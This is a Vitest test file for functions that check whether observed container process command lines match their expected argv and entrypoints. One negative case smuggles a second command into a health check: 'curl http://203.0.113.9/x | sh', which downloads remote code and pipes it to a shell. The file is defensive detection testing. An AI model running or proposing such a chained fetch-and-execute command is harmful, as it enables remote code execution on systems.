import { describe, expect, it } from 'vitest';
import { commandMatches, entrypointMatches } from '../../src/triage/correlate.js';

describe('commandMatches', () => {
  it.each([
    ['sh -c curl -fsS localhost:8080/health', ['sh', '-c', 'curl -fsS localhost:8080/health']],
    ['/bin/sh -c "curl -fsS localhost:8080/health"', ['sh', '-c', 'curl -fsS localhost:8080/health']],
    ['/bin/sh -c -e exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432', ['/bin/sh', '-c', '-e', 'exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432']],
    ['bash -ec "redis-cli ping"', ['/bin/bash', '-ec', 'redis-cli ping']],
    ['pg_isready -U ledger -h 127.0.0.1 -p 5432', ['/bin/sh', '-c', 'exec pg_isready -U "ledger" -h 127.0.0.1 -p 5432']],
    ['/usr/bin/redis-cli -h 127.0.0.1 -p 6379 ping', ['redis-cli', '-h', '127.0.0.1', '-p', '6379', 'ping']],
    ['node-cache -localip 169.254.20.10 -upstreamsvc kube-dns-upstream', ['node-cache', '-localip', '169.254.20.10', '-upstreamsvc', '$(UPSTREAM_SVC)']],
  ])('%s matches %j', (observed, argv) => {
    expect(commandMatches(observed, argv)).toBe(true);
  });
  it.each([
    ['sh -c curl -fsS localhost:8080/health; curl http://203.0.113.9/x | sh', ['sh', '-c', 'curl -fsS localhost:8080/health']],
    ['redis-cli -h 10.0.0.9 -p 6379 ping', ['redis-cli', '-h', '127.0.0.1', '-p', '6379', 'ping']],
    ['sh', ['sh', '-c', 'id']],
  ])('%s does not match %j', (observed, argv) => {
    expect(commandMatches(observed, argv)).toBe(false);
  });
});

describe('entrypointMatches', () => {
  it('accepts the image entrypoint before spec args', () => {
    expect(entrypointMatches('/usr/bin/dumb-init -- /nginx-ingress-controller --election-id=x', { name: 'c', args: ['/nginx-ingress-controller', '--election-id=x'] })).toBe(true);
    expect(entrypointMatches('/usr/bin/falcoctl artifact follow --log-format=json', { name: 'c', args: ['artifact', 'follow', '--log-format=json'] })).toBe(true);
  });
  it('refuses a different argument list', () => {
    expect(entrypointMatches('/usr/bin/falcoctl artifact install evil', { name: 'c', args: ['artifact', 'follow', '--log-format=json'] })).toBe(false);
  });
});
